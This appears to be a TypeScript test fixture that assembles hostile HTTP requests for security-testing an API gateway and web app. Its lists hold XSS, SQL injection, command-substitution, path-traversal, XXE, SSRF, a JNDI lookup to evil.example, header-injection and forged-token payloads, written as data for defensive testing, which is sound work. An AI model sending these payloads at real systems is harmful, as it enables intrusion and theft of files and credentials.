import { hostilePaths } from './hostilePaths.ts';

/** A whole request of a hostile client. */
export interface HostileRequest {
  readonly name: string;
  readonly method: string;
  readonly url: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly payload?: string | undefined;
}

const json = { 'content-type': 'application/json' };
const good = 'ta/Match?matchId=1';

/** Texts that break something: line ends, terminals, shells, databases, templates, scripts, right-to-left text. */
const texts: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u0000',
  '\u0007\u0008\u007f\u0085',
  '\r\nSet-Cookie: a=b',
  '%0d%0aSet-Cookie:%20a=b',
  '%00',
  '\u2028\u2029',
  '\u202egnp.exe',
  '\ud800',
  '\ufeff',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "';DROP TABLE matches;--",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '`id`',
  '$(id)',
  '|| id',
  '../../../../etc/passwd',
  '..%252f..%252fetc%252fpasswd',
  '%c0%ae%c0%ae/',
  'file:///etc/passwd',
  'http://169.254.169.254/',
  '//evil.example',
  '\\\\evil.example\\share',
  '__proto__',
  'constructor.prototype',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  'a'.repeat(7_000),
  '😀'.repeat(200),
  'ﷺ'.repeat(100),
];

const bodies: readonly string[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '{}',
  '[{"path":"ta/Match?matchId=1"}]',
  '{"path":null}',
  '{"path":1}',
  '{"path":[]}',
  '{"path":{}}',
  '{"path":{"toString":"ta/Match?matchId=1"}}',
  '{"Path":"ta/Match?matchId=1"}',
  '{"path":"ta/Match?matchId=1"',
  '{"path":"ta/Match?matchId=1"}}',
  "{'path':'ta/Match?matchId=1'}",
  '{"path":"\\ud800"}',
  '{"path":"\\u0000"}',
  '{"__proto__":{"path":"ta/Match?matchId=1"}}',
  '{"constructor":{"prototype":{"path":"x"}}}',
  `${'['.repeat(4_000)}${']'.repeat(4_000)}`,
  `{"path":${'{"a":'.repeat(1_000)}1${'}'.repeat(1_000)}}`,
  `{"path":"${'x'.repeat(9_000)}"}`,
  'path=ta/Match?matchId=1',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '\u0001\u0002\u0003',
  'NaN',
  '1e999',
];

const contentTypes: readonly string[] = [
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json\u00a0',
  'APPLICATION/JSON;;;;',
  'application/vnd.api+json',
  '*/*',
  'a'.repeat(2_000),
];

const addresses: readonly string[] = [
  '/api/',
  '/api//',
  '/api/..',
  '/api/../api/ta/Match?matchId=1&x',
  '/api/%2e%2e/healthz',
  '/api/%74a/Match?matchId=1',
  '/api/ta%2fMatch?matchId=1',
  '/api/ta/Match%3fmatchId=1',
  '/api/http://evil.example/',
  '/api/@evil.example/',
  '/api/ta/Match?matchId=1%00',
  '/api/ta/Match?matchId=1%0d%0aX:1',
  '/api/ta/Match?matchId=1#x',
  '/api/ta/Match?matchId=1;matchId=2',
  '/api/ta/Match?matchId=1&matchId=2',
  '/api/ta/Match?__proto__=1',
  '/api/__proto__',
  '/api/constructor',
  '/api/gateway?path=ta/Match?matchId=1',
  '/api/gateway/',
  '/api/live/token',
  '/api/live/token?clientId=',
  '/api/live/token?clientId=*',
  '/api/live/token?clientId=a&clientId=b',
  '/api/live/token?clientId[]=web-1',
  '/api/live/token?clientId=%0d%0aweb',
  `/api/live/token?clientId=${'x'.repeat(1_500)}`,
  '/assets/../../package.json',
  '/assets/..%2f..%2fpackage.json',
  '/.git/config',
  '/.env',
  '/package.json',
  '/.vite/manifest.json',
  '/metrics',
  '/control/matches',
  '/control/matches/1',
  '/channels/match:1:all/messages',
  '/channels/%00/messages',
  '/channels/__proto__/messages',
  '/channels/match:1:all/messages?limit=-1',
  '/channels/match:1:all/messages?limit=1e9',
  '/channels/match:1:all/messages?start=9&end=1',
  '/channels/match:1:all/messages?direction=up',
  '/channels/match:1:all/messages?cursor=../..',
  '/channels/match:1:all/messages?from_serial=%00',
  '/keys/kampdag.test/requestToken',
  '/keys/__proto__/requestToken',
  '/comet%2fconnect',
  '/%',
  '/%zz',
  '/%ff%fe',
  '/%E0%80%80',
  '//evil.example/%2f..',
  '/\\evil.example',
  '/?%00',
  '/?x=%1b[31m',
  `/${'a/'.repeat(900)}`,
  `/?${'a=1&'.repeat(500)}`,
  '/player?playerId=<script>',
  '/match?matchId=1%0a',
  '/match?matchId[]=1&matchId[]=2',
  '/livematch?matchId=9999999999999999999',
  '/standings?seasonId=-1&tournamentId=0x1',
  '/scoreboard?date=9999-99-99',
  '/scoreboard?date=%F0%9F%98%80',
  '/csp-report',
  '/sitemap.xml?x=<script>',
  '/robots.txt?%0a',
];

const methods: readonly string[] = ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'POST'];

const headerCases: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ['a Host that writes a policy', { host: "x; script-src 'unsafe-inline'" }],
  ['a Host that is a script', { host: '<script>alert(1)</script>' }],
  ['a Host of a neighbour', { host: '127.0.0.1:6379' }],
  ['a Host with a login', { host: 'user:pass@evil.example' }],
  ['an endless Host', { host: 'a'.repeat(5_000) }],
  ['a forwarded Host', { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'gopher' }],
  ['a forwarded script', { 'x-forwarded-for': '<script>', forwarded: 'for="_gazonk"' }],
  ['a rewritten address', { 'x-original-url': '/control/matches', 'x-rewrite-url': '/metrics' }],
  ['another method inside', { 'x-http-method-override': 'DELETE' }],
  ['a hostile language', { cookie: 'language=<script>; theme=../../x' }],
  ['a cookie without end', { cookie: `language=${'x'.repeat(7_000)}` }],
  ['a thousand cookies', { cookie: Array.from({ length: 800 }, (_, i) => `c${i}=1`).join('; ') }],
  ['an encoding that is none', { 'accept-encoding': 'br;q=NaN, gzip;q=-1, *;q=1e9, \u00e6' }],
  ['a thousand encodings', { 'accept-encoding': Array.from({ length: 1_000 }, (_, i) => `e${i}`).join() }],
  ['a tag without end', { 'if-none-match': '"x",'.repeat(1_000) }],
  ['a tag for anything', { 'if-none-match': '*' }],
  ['a range', { range: 'bytes=0-1,0-2,0-3,0-4' }],
  ['a key that is none', { authorization: 'Basic !!!!' }],
  ['a token that is none', { authorization: `Bearer ${'x'.repeat(5_000)}` }],
  ['a token without algorithm', { authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.' }],
  ['a visitor’s id that is none', { 'x-ably-clientid': '\u00ff\u00fe' }],
  ['a date that is none', { 'if-modified-since': 'yesterday' }],
  ['an expectation', { expect: '200-maybe' }],
  ['a trace', { traceparent: '../../', 'x-request-id': '\u001b[31m' }],
];

const encodedHow: readonly ((text: string) => string)[] = [
  encodeURIComponent,
  (text) => encodeURI(text).replaceAll('#', '%23'),
];

const tidy = (text: string): string => text.replaceAll(/\p{Surrogate}/gu, '\ufffd');

/** The part of a path that can be sent as an address; the rest fits only into a body. */
const asAddress = (path: string): string => `/api/${encodeURI(tidy(path)).slice(0, 1_900)}`;

/** All hostile requests, hand-picked and combined, without duplicates. */
export const hostileRequests: readonly HostileRequest[] = [
  ...hostilePaths.flatMap((path) => [
    {
      name: `POST of ${path.slice(0, 40)}`,
      method: 'POST',
      url: '/api/gateway',
      headers: json,
      payload: JSON.stringify({ path }),
    },
    { name: `GET of ${path.slice(0, 40)}`, method: 'GET', url: asAddress(path) },
  ]),
  ...texts.flatMap((text) => [
    {
      name: `POST of a call with ${JSON.stringify(text).slice(0, 30)} in it`,
      method: 'POST',
      url: '/api/gateway',
      headers: json,
      payload: JSON.stringify({ path: `ta/Match?matchId=1${text}` }),
    },
    ...encodedHow.map((encoded) => ({
      name: `page with ${JSON.stringify(text).slice(0, 30)} in its query`,
      method: 'GET',
      url: `/match?matchId=${encoded(tidy(text)).slice(0, 1_900)}`,
    })),
    {
      name: `page with ${JSON.stringify(text).slice(0, 30)} in its path`,
      method: 'GET',
      url: `/${encodeURIComponent(tidy(text)).slice(0, 1_900)}`,
    },
  ]),
  ...bodies.map((payload) => ({
    name: `body ${payload.slice(0, 30)}`,
    method: 'POST',
    url: '/api/gateway',
    headers: json,
    payload,
  })),
  ...contentTypes.map((type) => ({
    name: `content type ${type.slice(0, 30)}`,
    method: 'POST',
    url: '/api/gateway',
    headers: { 'content-type': type },
    payload: '{"path":"ta/Secret?x=1"}',
  })),
  ...addresses.map((url) => ({ name: `address ${url.slice(0, 40)}`, method: 'GET', url })),
  ...methods.flatMap((method) =>
    ['/api/gateway', '/api/ta/Secret', '/api/live/token', '/', '/channels/match:1:all/messages'].map(
      (url) => ({
        name: `${method} ${url}`,
        method,
        url,
        headers: json,
        payload: method === 'HEAD' ? undefined : '{"path":"ta/Secret?x=1"}',
      }),
    ),
  ),
  ...headerCases.map(([name, headers]) => ({
    name,
    method: 'GET',
    url: '/api/ta/Secret?x=1',
    headers,
  })),
  ...texts.map((text) => ({
    name: `report with ${JSON.stringify(text).slice(0, 30)}`,
    method: 'POST',
    url: '/csp-report',
    headers: { 'content-type': 'application/csp-report' },
    payload: JSON.stringify({ 'csp-report': { 'violated-directive': text, 'blocked-uri': text } }),
  })),
  {
    name: 'good path with a bad neighbour',
    method: 'POST',
    url: '/api/gateway',
    headers: json,
    payload: JSON.stringify({ path: `${good}\n${good}` }),
  },
];
